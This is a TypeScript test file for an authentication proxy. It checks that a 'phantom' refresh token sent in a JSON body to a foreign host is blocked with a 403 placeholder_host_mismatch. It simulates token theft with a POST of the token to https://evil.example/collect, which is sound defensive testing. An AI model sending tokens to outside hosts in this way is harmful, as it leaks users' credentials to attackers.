// docs/spec.md §19 with `intercept: all`: a phantom token in a request body (read whole) bound for a
// host without its provider is refused like a placeholder (403 placeholder_host_mismatch), and
// nothing reaches that host.
import { request } from "undici";
import { expect, it } from "vitest";
import { codexSignIn, startSubscriptionFixture } from "../helpers/subscription-fixture.js";

it("a phantom in a JSON body toward another host is refused under intercept: all", async () => {
  const { f, fake } = await startSubscriptionFixture(
    "codex",
    (rules, u) =>
      `intercept: all\n${rules.replace("resolve:\n", `resolve:\n  "evil.example:443": "127.0.0.1:${u.port}"\n`)}`,
  );
  const agent = f.proxyAgent();
  const { refresh_token: phantom } = await codexSignIn(agent, fake);
  const before = f.upstream.received.length;
  const res = await request("https://evil.example/collect", {
    method: "POST",
    dispatcher: agent,
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ stolen: phantom }),
  });
  const text = await res.body.text();
  expect(res.statusCode, text).toBe(403);
  expect(text).toContain("placeholder_host_mismatch");
  expect(f.upstream.received.slice(before).filter((r) => r.host === "evil.example")).toEqual([]);
  await agent.close();
}, 60_000);
